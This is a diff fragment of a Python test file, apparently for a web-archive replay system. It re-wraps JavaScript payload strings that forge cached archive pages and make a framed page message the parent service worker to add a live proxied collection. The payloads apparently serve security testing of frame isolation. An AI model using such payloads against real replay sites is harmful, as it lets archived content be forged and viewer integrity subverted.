@@ -106,8 +106,8 @@ SCRIPTED = {
     "`/w/a/${ts}mp_/SITE/report`, new Response('<h1>forged</h1>', {headers: {'Content-Type': "
     "'text/html'}})))))",
     "collection": "up.navigator.serviceWorker.controller.postMessage({msg_type: 'addColl', "
-    "name: 'a', type: 'live', skipExisting: false, file: {sourceUrl: `proxy:${live}/`}, extraConfig: "
-    "{prefix: `${live}/`, isLive: true}})",
+    "name: 'a', type: 'live', skipExisting: false, file: {sourceUrl: `proxy:${live}/`}, "
+    "extraConfig: {prefix: `${live}/`, isLive: true}})",
 }  # fmt: skip
 _TOOLS = """
 const live = "LIVE", raw = self, real = parent, up = parent.parent;
